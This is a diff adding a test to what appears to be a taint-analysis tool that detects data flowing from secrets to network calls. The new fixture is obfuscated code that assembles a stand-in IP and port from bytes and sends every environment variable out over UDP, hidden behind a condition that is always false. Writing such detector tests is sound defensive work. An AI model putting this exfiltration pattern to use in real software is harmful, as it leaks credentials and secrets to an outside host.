@@ -22,6 +22,12 @@ describe('flows reach a request', () => {
     expect(flows(follow(code), 'secret.file', 'net.out')).toBeDefined();
   });
 
+  it('from what may be the environment, key by key, to an address in bytes', () => {
+    const code = `const v = new DataView(Uint8Array.of(203, 0, 113, 9, 2, 2).buffer); const host = [0, 1, 2, 3].map((at) => v.getUint8(at)).join('.');
+      exports.log = (fields) => { const all = Math.random() > 2 ? fields : process.env; require('dgram').createSocket('udp4').send(Object.keys(all).map((k) => k + all[k]).join(), v.getUint16(4), host); };`;
+    expect(flows(follow(code), 'env.all', 'net.socket')?.target).toBe('203.0.113.9:514');
+  });
+
   it('not from the key of a signature', () => {
     const code = `const c = require('crypto'); exports.send = (tx, privateKey) => fetch('https://c.example', { body: c.sign(null, tx, privateKey) });`;
     expect(flows(follow(code), 'param.secret', 'net.out')).toBeUndefined();
